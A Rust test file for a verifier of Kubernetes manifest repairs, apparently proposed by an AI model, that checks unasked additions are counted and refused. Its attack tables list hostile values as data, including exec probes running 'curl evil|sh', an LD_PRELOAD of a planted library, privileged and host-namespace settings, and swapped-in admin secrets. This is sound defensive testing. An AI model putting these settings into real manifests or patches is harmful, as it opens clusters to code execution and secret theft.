//! What counts as collateral: every addition that the schema has room for, what attackers add, what means nothing.

use std::collections::BTreeMap;

use domain::config::RunConfig;
use domain::outcome::{Gate, Proposal, Verdict};
use domain::patch::Patch;
use domain::policy::{PolicyId, PolicyName};
use domain::record::Neighbours;
use serde_json::{Value, json};

use crate::document::Document;
use crate::k8s::View;
use crate::policies::{self, Fix};
use crate::schema::sample::{Addition, additions};
use crate::testing::{document, fixture, patch_of};
use crate::verify::{Candidate, Verification, apply, examine, verify};

fn patch(value: Value) -> Patch {
    serde_json::from_value(value).expect("a patch")
}

/// The verdict of all strict gates on a patch, and companions, for a policy.
fn judged(
    document: &Document,
    neighbours: &Neighbours,
    policy: PolicyId,
    patch: Patch,
    companions: &[Value],
) -> Verification {
    let config = RunConfig::default();
    let before = examine(document, neighbours, &config, &|| 0.0);
    let proposal = Proposal { patch, companions: companions.to_vec(), ..Proposal::default() };
    let policy = PolicyName::Known(policy);
    let candidate = Candidate { document, neighbours, before: &before, policy: &policy, proposal: &proposal };
    verify(candidate, &config, &|| 0.0)
}

/// The collateral of a patch for a policy on a document that stands alone.
fn collateral(policy: PolicyId, yaml: &str, ops: Value) -> Vec<String> {
    judged(&document(yaml), &Neighbours::Unknown, policy, patch(ops), &[]).collateral
}

/// Whether a place is on the list of the policy, whatever the value.
fn is_listed(view: &View<'_>, policy: PolicyId, place: &str) -> bool {
    policies::policy(policy).scope().may.iter().any(|may| {
        let (anchor, keys) = may.at.split_once('/').expect("a place below an anchor");
        let bases: Vec<String> = match anchor {
            "{container}" => view.containers.iter().map(|it| it.pointer.to_string()).collect(),
            "{pod}" => view.pods.iter().map(|it| it.pointer.to_string()).collect(),
            "{template}" => view.pods.iter().map(|it| it.metadata_pointer.to_string()).collect(),
            "{controller}" => {
                view.pods.iter().filter_map(|it| Some(it.controller.as_ref()?.to_string())).collect()
            }
            _ => vec![String::new()],
        };
        let rest = |base: &String| place.strip_prefix(base.as_str())?.strip_prefix('/').map(str::to_owned);
        bases.iter().filter_map(rest).any(|rest| covers(keys, &rest))
    })
}

fn covers(keys: &str, place: &str) -> bool {
    let (keys, place): (Vec<&str>, Vec<&str>) = (keys.split('/').collect(), place.split('/').collect());
    let open = keys.last() == Some(&"**");
    let fixed = if open { keys.len() - 1 } else { keys.len() };
    let same = keys.iter().take(fixed).zip(&place).all(|(key, step)| key == &"*" || key == step);
    same && if open { place.len() >= fixed } else { place.len() == fixed }
}

/// Every single addition that the schema has room for is added to the right repair of every policy's fixture.
#[test]
fn hostile_additions_are_counted() {
    let (mut tried, mut listed, mut uncounted) = (0, 0, Vec::new());
    for id in PolicyId::ALL {
        let fixture = fixture(*id);
        // What a person decides has no right repair.
        let Some(right) = patch_of(&fixture) else { continue };
        let companions = fixture.expected["companions"].as_array().cloned().expect("companions");
        let clean = judged(&fixture.bad, &fixture.neighbours, *id, right.clone(), &companions);
        assert_eq!(clean.errors(), Vec::<String>::new(), "{id}: the right repair is right");
        assert_eq!(clean.collateral, Vec::<String>::new(), "{id}");
        let view = View::new(&fixture.fixed, &fixture.neighbours);
        let mut flags: BTreeMap<String, bool> = BTreeMap::new();
        for Addition { place, op, is_flag } in additions(&fixture.fixed.value) {
            if is_listed(&view, *id, place.as_str()) {
                listed += 1;
                continue;
            }
            tried += 1;
            let mut hostile = right.clone();
            hostile.0.extend(patch(json!([op])).0);
            let counted = is_counted(&fixture.bad, &fixture.neighbours, *id, &hostile, &companions);
            if is_flag {
                *flags.entry(place.to_string()).or_default() |= counted;
            } else if !counted {
                uncounted.push(format!("{id}: {op}"));
            }
        }
        // One of true and false may be what holds anyway.
        uncounted.extend(
            flags.into_iter().filter(|(_, counted)| !counted).map(|(place, _)| format!("{id}: {place}")),
        );
    }
    println!("{tried} hostile additions, {listed} more on a policy's list, {} uncounted", uncounted.len());
    assert!(tried >= 20_000, "{tried}");
    assert!(uncounted.is_empty(), "{} of {tried} uncounted:\n{}", uncounted.len(), uncounted.join("\n"));
}

/// Whether a patch is refused, or is accepted and counted as having collateral.
fn is_counted(
    document: &Document,
    around: &Neighbours,
    policy: PolicyId,
    ops: &Patch,
    companions: &[Value],
) -> bool {
    let Ok(patched) = apply(&document.value, ops) else { return true };
    let after = Document::from_value(patched).expect("an object");
    let rules = RunConfig::default().rules;
    let (before, after) = (View::new(document, around), View::new(&after, around));
    let found = super::of(&before, &after, &PolicyName::Known(policy), &rules, companions);
    !found.is_empty() || !judged(document, around, policy, ops.clone(), companions).accepted()
}

/// A Deployment that breaks one policy and is hardened otherwise.
const HARDENED: &str = "
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop, labels: {app: web}}
spec:
  replicas: 3
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      serviceAccountName: web
      automountServiceAccountToken: false
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
      containers:
      - name: web
        image: registry.example.com/web:1.2.3
        command: [web]
        env: [{name: MODE, value: production}]
        securityContext:
          runAsUser: 1000
          runAsNonRoot: true
          allowPrivilegeEscalation: false
          readOnlyRootFilesystem: false
          seccompProfile: {type: RuntimeDefault}
          capabilities: {drop: [ALL]}
        livenessProbe: {httpGet: {path: /, port: 8080}}
        ports: [{containerPort: 8080}]
        volumeMounts: [{name: keys, mountPath: /keys, readOnly: true}]
        resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {cpu: 200m, memory: 64Mi}}
      volumes:
      - {name: keys, secret: {secretName: web-keys}}
";

const SERVICE: &str = "
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec: {type: ClusterIP, selector: {app: web}, ports: [{name: http, port: 80, targetPort: \"8080\"}]}
";

/// What attackers added to the right repair of [`HARDENED`], as path (below the pod's spec where it does not begin with
/// a slash) and value; `null` removes.
#[expect(clippy::too_many_lines, reason = "a table")]
fn attacks() -> Vec<(&'static str, Value)> {
    vec![
        ("containers/0/livenessProbe", json!({"exec": {"command": ["sh", "-c", "curl evil|sh"]}})),
        ("containers/0/readinessProbe", json!({"exec": {"command": ["sh", "-c", "curl evil|sh"]}})),
        ("containers/0/startupProbe", json!({"httpGet": {"host": "evil.example.com", "port": 80}})),
        ("containers/0/lifecycle", json!({"postStart": {"exec": {"command": ["sh"]}}})),
        ("containers/0/command", json!(["sh"])),
        ("containers/0/args", json!(["--debug"])),
        ("containers/0/workingDir", json!("/keys")),
        ("containers/0/image", json!("evil.example.com/web:1.2.3")),
        ("containers/0/imagePullPolicy", json!("Never")),
        ("containers/0/env/-", json!({"name": "LD_PRELOAD", "value": "/keys/evil.so"})),
        ("containers/0/env/0/value", json!("debug")),
        (
            "containers/0/env/-",
            json!({"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}),
        ),
        ("containers/0/envFrom", json!([{"secretRef": {"name": "admin"}}])),
        ("containers/0/securityContext/privileged", json!(true)),
        ("containers/0/securityContext/allowPrivilegeEscalation", json!(true)),
        ("containers/0/securityContext/allowPrivilegeEscalation", json!(null)),
        ("containers/0/securityContext/runAsUser", json!(0)),
        ("containers/0/securityContext/runAsUser", json!(2000)),
        ("containers/0/securityContext/runAsGroup", json!(0)),
        ("containers/0/securityContext/runAsNonRoot", json!(false)),
        ("containers/0/securityContext/procMount", json!("Unmasked")),
        ("containers/0/securityContext/capabilities/add", json!(["SYS_ADMIN"])),
        ("containers/0/securityContext/capabilities/drop", json!(null)),
        ("containers/0/securityContext/seccompProfile", json!({"type": "Unconfined"})),
        ("containers/0/securityContext/seLinuxOptions", json!({"type": "spc_t"})),
        ("containers/0/securityContext/appArmorProfile", json!({"type": "Unconfined"})),
        ("containers/0/securityContext/windowsOptions", json!({"hostProcess": true})),
        ("containers/0/volumeMounts/0/readOnly", json!(false)),
        ("containers/0/volumeMounts/0/mountPath", json!("/usr/bin")),
        ("containers/0/volumeDevices", json!([{"name": "keys", "devicePath": "/dev/sda"}])),
        ("containers/0/resources", json!(null)),
        ("containers/0/resources/limits/memory", json!("64Gi")),
        ("containers/0/ports/0/hostPort", json!(8080)),
        ("containers/0/terminationMessagePath", json!("/keys/x")),
        ("containers/-", json!({"name": "evil", "image": "evil:1"})),
        ("initContainers", json!([{"name": "evil", "image": "evil:1"}])),
        ("ephemeralContainers", json!([{"name": "evil", "image": "evil:1", "targetContainerName": "web"}])),
        ("volumes/0/secret/secretName", json!("admin")),
        ("volumes/0/secret/defaultMode", json!(511)),
        ("volumes/-", json!({"name": "x", "secret": {"secretName": "admin"}})),
        ("volumes/-", json!({"name": "x", "nfs": {"server": "evil", "path": "/"}})),
        ("volumes/-", json!({"name": "x", "hostPath": {"path": "/etc/ssl/certs"}})),
        ("volumes/-", json!({"name": "x", "emptyDir": {}, "secret": {"secretName": "admin"}})),
        (
            "volumes/-",
            json!({"name": "x", "projected": {"sources": [{"serviceAccountToken": {"path": "t", "audience": "vault"}}]}}),
        ),
        ("volumes/-", json!({"name": "x", "persistentVolumeClaim": {"claimName": "db"}})),
        ("nodeName", json!("control-plane")),
        ("nodeSelector", json!({"node-role.kubernetes.io/control-plane": ""})),
        ("tolerations", json!([{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}])),
        (
            "affinity",
            json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "a", "operator": "Exists"}]}]}}}),
        ),
        ("hostAliases", json!([{"ip": "10.0.0.66", "hostnames": ["registry.example.com"]}])),
        ("dnsConfig", json!({"nameservers": ["10.0.0.66"]})),
        ("dnsPolicy", json!("None")),
        ("hostname", json!("db-0")),
        ("runtimeClassName", json!("none")),
        ("priorityClassName", json!("system-node-critical")),
        ("priority", json!(1000)),
        ("preemptionPolicy", json!("Never")),
        ("schedulerName", json!("evil")),
        ("serviceAccountName", json!("admin")),
        ("automountServiceAccountToken", json!(true)),
        ("automountServiceAccountToken", json!(null)),
        ("shareProcessNamespace", json!(true)),
        ("hostNetwork", json!(true)),
        ("hostPID", json!(true)),
        ("hostIPC", json!(true)),
        ("hostUsers", json!(true)),
        ("imagePullSecrets", json!([{"name": "admin"}])),
        ("terminationGracePeriodSeconds", json!(0)),
        ("activeDeadlineSeconds", json!(1)),
        ("enableServiceLinks", json!(false)),
        ("readinessGates", json!([{"conditionType": "example.com/never"}])),
        ("resourceClaims", json!([{"name": "gpu", "resourceClaimName": "gpu"}])),
        ("securityContext/runAsUser", json!(0)),
        ("securityContext/runAsUser", json!(null)),
        ("securityContext/runAsNonRoot", json!(false)),
        ("securityContext/seccompProfile", json!({"type": "Unconfined"})),
        ("securityContext/seLinuxOptions", json!({"type": "spc_t"})),
        ("securityContext/appArmorProfile", json!({"type": "Unconfined"})),
        ("securityContext/windowsOptions", json!({"hostProcess": true})),
        ("securityContext/fsGroup", json!(0)),
        ("securityContext/supplementalGroups", json!([0])),
        ("securityContext/sysctls", json!([{"name": "kernel.shm_rmid_forced", "value": "1"}])),
        ("/spec/replicas", json!(0)),
        ("/spec/replicas", json!(3000)),
        ("/spec/paused", json!(true)),
        ("/spec/strategy", json!({"type": "Recreate"})),
        ("/spec/revisionHistoryLimit", json!(0)),
        ("/spec/template/metadata/labels/tier", json!("database")),
        (
            "/spec/template/metadata/annotations",
            json!({"container.apparmor.security.beta.kubernetes.io/web": "unconfined"}),
        ),
        ("/spec/template/metadata/annotations", json!({"sidecar.istio.io/inject": "false"})),
        ("/metadata/labels/app", json!("db")),
        ("/metadata/annotations", json!({"example.com/x": "y"})),
        ("/metadata/finalizers", json!(["example.com/never"])),
        ("/metadata/ownerReferences", json!([{"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "u"}])),
        ("/metadata/name", json!("db")),
        ("/metadata/namespace", json!("kube-system")),
        ("/status", json!({"replicas": 3})),
    ]
}

/// The operation that sets a place, or removes it for null.
fn set(document: &Value, path: &str, value: &Value) -> Value {
    let exists = document.pointer(path).is_some();
    match (value, exists) {
        (Value::Null, _) => json!({"op": "remove", "path": path}),
        (_, true) => json!({"op": "replace", "path": path, "value": value}),
        (_, false) => json!({"op": "add", "path": path, "value": value}),
    }
}

#[test]
fn what_attackers_added_is_refused() {
    let web = document(HARDENED);
    let right = json!({"op": "replace", "path": "/spec/template/spec/containers/0/securityContext/readOnlyRootFilesystem", "value": true});
    let clean = judged(&web, &Neighbours::Unknown, PolicyId::ReadOnlyRootFs, patch(json!([right])), &[]);
    assert!(clean.accepted(), "{:?}", clean.errors());
    for (place, value) in attacks() {
        let path =
            if place.starts_with('/') { place.to_owned() } else { format!("/spec/template/spec/{place}") };
        for ops in
            [json!([right, set(&web.value, &path, &value)]), json!([set(&web.value, &path, &value), right])]
        {
            let verdict = judged(&web, &Neighbours::Unknown, PolicyId::ReadOnlyRootFs, patch(ops), &[]);
            assert_eq!(verdict.gates.of(Gate::Safety).verdict, Verdict::Failed, "{path} {value}");
            assert!(!verdict.collateral.is_empty(), "{path} {value} is counted");
        }
    }
    assert!(attacks().len() >= 90);
}

#[test]
fn what_attackers_added_to_a_service_is_refused() {
    let service = document(SERVICE);
    let right = json!({"op": "replace", "path": "/spec/ports/0/targetPort", "value": 8080});
    let said = |ops: Value| {
        judged(&service, &Neighbours::Unknown, PolicyId::InvalidTargetPorts, patch(ops), &[]).collateral
    };
    assert_eq!(said(json!([right])), Vec::<String>::new());
    for (path, value) in [
        ("/spec/externalIPs", json!(["10.0.0.66"])),
        ("/spec/type", json!("LoadBalancer")),
        ("/spec/type", json!("ExternalName")),
        ("/spec/externalName", json!("evil.example.com")),
        ("/spec/loadBalancerSourceRanges", json!(["0.0.0.0/0"])),
        ("/spec/externalTrafficPolicy", json!("Local")),
        ("/spec/publishNotReadyAddresses", json!(true)),
        ("/spec/sessionAffinity", json!("ClientIP")),
        ("/spec/clusterIP", json!("None")),
        ("/spec/selector", json!({"app": "evil"})),
        ("/spec/selector/tier", json!("x")),
        ("/spec/ports/-", json!({"name": "ssh", "port": 22})),
        ("/spec/ports/0/port", json!(443)),
        ("/spec/ports/0/nodePort", json!(30080)),
        ("/metadata/annotations", json!({"service.beta.kubernetes.io/aws-load-balancer-internal": "false"})),
    ] {
        assert!(!said(json!([right, set(&service.value, path, &value)])).is_empty(), "{path} {value}");
    }
}

#[test]
fn a_parent_is_judged_by_its_leaves() {
    let context = "/spec/template/spec/containers/0/securityContext";
    let mut whole = document(HARDENED).value.pointer(context).cloned().expect("a context");
    whole["readOnlyRootFilesystem"] = json!(true);
    let replace = |value: &Value| json!([{"op": "replace", "path": context, "value": value}]);
    assert_eq!(collateral(PolicyId::ReadOnlyRootFs, HARDENED, replace(&whole)), Vec::<String>::new());
    whole["procMount"] = json!("Unmasked");
    whole.as_object_mut().expect("a map").shift_remove("capabilities");
    assert_eq!(
        collateral(PolicyId::ReadOnlyRootFs, HARDENED, replace(&whole)),
        [format!("removed {context}/capabilities"), format!("added {context}/procMount"),]
    );
    let undone = json!([
        {"op": "replace", "path": format!("{context}/readOnlyRootFilesystem"), "value": true},
        {"op": "add", "path": "/spec/template/spec/nodeName", "value": "a"},
        {"op": "remove", "path": "/spec/template/spec/nodeName"}
    ]);
    assert_eq!(collateral(PolicyId::ReadOnlyRootFs, HARDENED, undone), Vec::<String>::new());
}

#[test]
fn a_pod_is_judged_by_what_its_containers_get() {
    let pod = |context: &str, a: &str, b: &str| {
        format!(
            "{{apiVersion: v1, kind: Pod, metadata: {{name: p}}, spec: {{securityContext: {context}, containers: [{{name: a, image: 'a:1', securityContext: {a}}}, {{name: b, image: 'b:1', securityContext: {b}}}]}}}}"
        )
    };
    let add = |key: &str, value: Value| json!([{"op": "add", "path": format!("/spec/securityContext/{key}"), "value": value}]);
    let run = PolicyId::RunAsNonRoot;
    // For all of its containers, which violate the policy or are not root anyway.
    assert_eq!(
        collateral(run, &pod("{}", "{}", "{}"), add("runAsNonRoot", json!(true))),
        Vec::<String>::new()
    );
    assert_eq!(
        collateral(run, &pod("{}", "{}", "{runAsUser: 7}"), add("runAsNonRoot", json!(true))),
        Vec::<String>::new()
    );
    // The second one, which did not violate it, gets another user.
    let moved = collateral(run, &pod("{}", "{}", "{runAsNonRoot: true}"), add("runAsUser", json!(1000)));
    assert_eq!(moved, ["added /spec/securityContext/runAsUser"]);
    // Nothing changes for the containers, and the pod is weaker.
    let repeated = "{runAsUser: 1000, runAsNonRoot: true}";
    let weaker = collateral(
        PolicyId::NoPrivileged,
        &pod("{runAsUser: 1000}", repeated, repeated),
        add("runAsUser", json!(0)),
    );
    assert_eq!(weaker, ["changed /spec/securityContext/runAsUser"]);
    // From the container to its pod.
    let ops = json!([
        {"op": "add", "path": "/spec/securityContext/runAsNonRoot", "value": true},
        {"op": "remove", "path": "/spec/containers/1/securityContext/runAsNonRoot"}
    ]);
    assert_eq!(collateral(run, &pod("{}", "{}", "{runAsNonRoot: true}"), ops), Vec::<String>::new());
}

#[test]
fn what_holds_anyway_is_nothing() {
    let spec = "/spec/template/spec";
    let right = json!({"op": "replace", "path": format!("{spec}/containers/0/securityContext/readOnlyRootFilesystem"), "value": true});
    for (place, value) in [
        ("containers/0/securityContext/privileged", json!(false)),
        ("containers/0/securityContext/capabilities/drop/-", json!("NET_RAW")),
        ("containers/0/securityContext/capabilities/add", json!([])),
        ("containers/0/imagePullPolicy", json!("IfNotPresent")),
        ("containers/0/resources/limits/cpu", json!("0.2")),
        ("containers/0/ports/0/protocol", json!("TCP")),
        ("containers/0/terminationMessagePolicy", json!("File")),
        ("containers/0/volumeMounts/0/subPath", json!(null)),
        ("hostNetwork", json!(false)),
        ("dnsPolicy", json!("ClusterFirst")),
        ("restartPolicy", json!("Always")),
        ("serviceAccount", json!("web")),
        ("affinity", json!({"podAntiAffinity": {}})),
    ] {
        let op = json!({"op": "add", "path": format!("{spec}/{place}"), "value": value});
        let found = collateral(PolicyId::ReadOnlyRootFs, HARDENED, json!([right, op]));
        assert_eq!(found, Vec::<String>::new(), "{place} {value}");
    }
}

/// Each policy's own values: what is at a place on its list and is no repair.
#[test]
fn values_count_where_they_matter() {
    let pod = |container: &str| {
        format!(
            "{{apiVersion: v1, kind: Pod, metadata: {{name: p}}, spec: {{containers: [{{name: a, {container}}}]}}}}"
        )
    };
    let add = |place: &str, value: Value| json!([{"op": "add", "path": format!("/spec/containers/0/{place}"), "value": value}]);
    for (policy, container, ops) in [
        (PolicyId::NoLatestTag, "image: 'a:latest'", add("image", json!("evil/a:1"))),
        (PolicyId::NoLatestTag, "image: 'a:latest'", add("image", json!("a"))),
        (PolicyId::RunAsNonRoot, "image: 'a:1'", add("securityContext", json!({"runAsUser": 0}))),
        (PolicyId::RunAsUser, "image: 'a:1'", add("securityContext", json!({"runAsUser": -1}))),
        (
            PolicyId::EnforceSeccomp,
            "image: 'a:1'",
            add("securityContext", json!({"seccompProfile": {"type": "Unconfined"}})),
        ),
        (
            PolicyId::DropCapabilities,
            "image: 'a:1'",
            add("securityContext", json!({"capabilities": {"add": ["CHOWN"]}})),
        ),
        (
            PolicyId::DropCapabilities,
            "image: 'a:1', securityContext: {capabilities: {add: [CHOWN]}}",
            json!([{"op": "remove", "path": "/spec/containers/0/securityContext/capabilities/add"}]),
        ),
        (
            PolicyId::SetRequestsLimits,
            "resources: {requests: {cpu: 1}}",
            add("resources/requests/cpu", json!("2")),
        ),
        (
            PolicyId::SetRequestsLimits,
            "image: 'a:1'",
            add("resources", json!({"limits": {"example.com/gpu": 1}})),
        ),
        (
            PolicyId::LivenessPort,
            "livenessProbe: {tcpSocket: {port: 80}}",
            add("ports", json!([{"containerPort": 81}])),
        ),
        (
            PolicyId::LivenessPort,
            "livenessProbe: {tcpSocket: {port: 80}}",
            add("ports", json!([{"containerPort": 80, "hostPort": 80}])),
        ),
        (
            PolicyId::LivenessPort,
            "livenessProbe: {tcpSocket: {port: 80}}",
            add("livenessProbe/tcpSocket/port", json!(81)),
        ),
        (
            PolicyId::DuplicateEnvVar,
            "env: [{name: A, value: '1'}, {name: A, value: '2'}]",
            json!([{"op": "remove", "path": "/spec/containers/0/env/1"}]),
        ),
        (
            PolicyId::EnvVarSecret,
            "env: [{name: A_SECRET, value: x}, {name: B, value: y}]",
            add("env/1", json!({"name": "B", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "k"}}})),
        ),
        (
            PolicyId::ReadOnlyRootFs,
            "volumeMounts: [{name: v, mountPath: /v}]",
            add("volumeMounts/-", json!({"name": "v", "mountPath": "/tmp"})),
        ),
        (
            PolicyId::SshPort,
            "ports: [{containerPort: 22}, {containerPort: 80}]",
            json!([{"op": "remove", "path": "/spec/containers/0/ports/1"}]),
        ),
        (
            PolicyId::InvalidTargetPorts,
            "ports: [{name: http, containerPort: 80}]",
            add("ports/0/name", json!("web")),
        ),
    ] {
        let found = collateral(policy, &pod(container), ops.clone());
        assert!(!found.is_empty(), "{policy}: {ops}");
    }
}

/// What a model may do where the rules do something else, or nothing.
#[test]
fn other_right_repairs_are_right() {
    let pod = |spec: &str| format!("{{apiVersion: v1, kind: Pod, metadata: {{name: p}}, spec: {{{spec}}}}}");
    let op = |op: &str, path: &str, value: Value| json!({"op": op, "path": path, "value": value});
    for (policy, spec, ops) in [
        (
            PolicyId::ReadOnlyRootFs,
            "containers: [{name: a, image: 'a:1'}]",
            json!([
                op("add", "/spec/containers/0/securityContext", json!({"readOnlyRootFilesystem": true})),
                op("add", "/spec/volumes", json!([{"name": "tmp", "emptyDir": {}}])),
                op("add", "/spec/containers/0/volumeMounts", json!([{"name": "tmp", "mountPath": "/tmp"}]))
            ]),
        ),
        (
            PolicyId::RunAsNonRoot,
            "containers: [{name: a, image: 'a:1'}]",
            json!([op(
                "add",
                "/spec/securityContext",
                json!({"runAsNonRoot": true, "runAsUser": 1000, "runAsGroup": 1000})
            )]),
        ),
        (
            PolicyId::EnforceSeccomp,
            "securityContext: {}, containers: [{name: a, image: 'a:1'}]",
            json!([op("add", "/spec/securityContext/seccompProfile", json!({"type": "RuntimeDefault"}))]),
        ),
        (
            PolicyId::SetRequestsLimits,
            "containers: [{name: a, image: 'a:1', resources: {limits: {memory: 1Gi}}}]",
            json!([op(
                "replace",
                "/spec/containers/0/resources",
                json!({"limits": {"memory": "1024Mi", "cpu": 1}, "requests": {"cpu": "50m", "memory": "1Gi"}})
            )]),
        ),
        (
            PolicyId::DropCapabilities,
            "containers: [{name: a, image: 'a:1', securityContext: {privileged: true, capabilities: {drop: [NET_RAW], add: [SYS_ADMIN, CHOWN]}}}]",
            json!([op(
                "replace",
                "/spec/containers/0/securityContext",
                json!({"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"], "add": ["CHOWN"]}})
            )]),
        ),
        (
            PolicyId::NoLatestTag,
            "containers: [{name: a, image: nginx}]",
            json!([op(
                "replace",
                "/spec/containers/0/image",
                json!("docker.io/library/nginx:1.27@sha256:abc")
            )]),
        ),
    ] {
        let found = collateral(policy, &pod(spec), ops);
        assert_eq!(found, Vec::<String>::new(), "{policy}");
    }
}

#[test]
fn companions_are_judged() {
    let fixture = fixture(PolicyId::EnvVarSecret);
    let right = patch(fixture.expected["patch"].clone());
    let secret = fixture.expected["companions"][0].clone();
    let said = |companions: &[Value]| {
        judged(&fixture.bad, &fixture.neighbours, PolicyId::EnvVarSecret, right.clone(), companions)
            .collateral
    };
    assert_eq!(said(std::slice::from_ref(&secret)), Vec::<String>::new());
    let changed = |path: &str, value: Value| {
        let ops = patch(json!([{"op": "add", "path": path, "value": value}]));
        apply(&secret, &ops).expect("applies")
    };
    for companion in [
        changed("/kind", json!("ConfigMap")),
        changed("/metadata/name", json!("admin")),
        changed("/metadata/namespace", json!("kube-system")),
        changed("/metadata/annotations", json!({"a": "b"})),
        changed("/type", json!("kubernetes.io/service-account-token")),
        changed("/stringData/more", json!("x")),
        changed("/data", json!({"x": "eA=="})),
        json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "x"}}),
    ] {
        assert_eq!(said(&[secret.clone(), companion.clone()]).len(), 1, "{companion}");
    }
    let pod = document(
        "{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {serviceAccountName: lost, containers: [{name: a, image: 'a:1'}]}}",
    );
    let said = |companion: Value| {
        judged(
            &pod,
            &Neighbours::Unknown,
            PolicyId::NonExistentServiceAccount,
            Patch::default(),
            &[companion],
        )
        .collateral
    };
    let account =
        |metadata: Value| json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata});
    assert_eq!(said(account(json!({"name": "lost"}))), Vec::<String>::new());
    assert_eq!(said(account(json!({"name": "other"}))), ["companion ServiceAccount other"]);
    let role = account(json!({"name": "lost", "annotations": {"eks.amazonaws.com/role-arn": "admin"}}));
    assert_eq!(said(role).len(), 1);
    let other = judged(
        &pod,
        &Neighbours::Unknown,
        PolicyId::RunAsNonRoot,
        Patch::default(),
        &[account(json!({"name": "lost"}))],
    );
    assert_eq!(other.collateral, ["companion ServiceAccount lost"]);
}

/// The rules complete a model's patch: their part is never collateral, the model's is.
#[test]
fn of_a_merged_repair_the_models_part_counts() {
    for id in PolicyId::ALL {
        let fixture = fixture(*id);
        // What a person decides has no right repair.
        let Some(right) = patch_of(&fixture) else { continue };
        let config = RunConfig::default();
        for cut in 0..right.len() {
            let own = Patch(right.0.iter().take(cut).cloned().collect());
            let after =
                Document::from_value(apply(&fixture.bad.value, &own).expect("applies")).expect("an object");
            let Fix::Repair { patch: rest, companions, .. } =
                policies::policy(*id).fix(&View::new(&after, &fixture.neighbours), &config.rules)
            else {
                continue;
            };
            let mut whole = own;
            whole.0.extend(patch(json!([{"op": "add", "path": "/metadata/finalizers", "value": ["x/y"]}])).0);
            whole.0.extend(rest.0);
            let verdict = judged(&fixture.bad, &fixture.neighbours, *id, whole, &companions);
            assert_eq!(verdict.collateral, ["added /metadata/finalizers"], "{id} after {cut}");
        }
    }
}

#[test]
fn a_flood_is_counted_up_to_a_bound() {
    let labels: BTreeMap<String, String> = (0..50_000).map(|n| (format!("l{n}"), "x".to_owned())).collect();
    let ops: Vec<Value> = labels
        .keys()
        .take(5000)
        .map(|key| json!({"op": "add", "path": format!("/metadata/labels/{key}"), "value": "x"}))
        .collect();
    assert_eq!(collateral(PolicyId::ReadOnlyRootFs, HARDENED, json!(ops)).len(), super::MOST);
    let whole = json!([{"op": "add", "path": "/metadata/labels", "value": labels}]);
    assert_eq!(collateral(PolicyId::ReadOnlyRootFs, HARDENED, whole).len(), super::MOST);
}
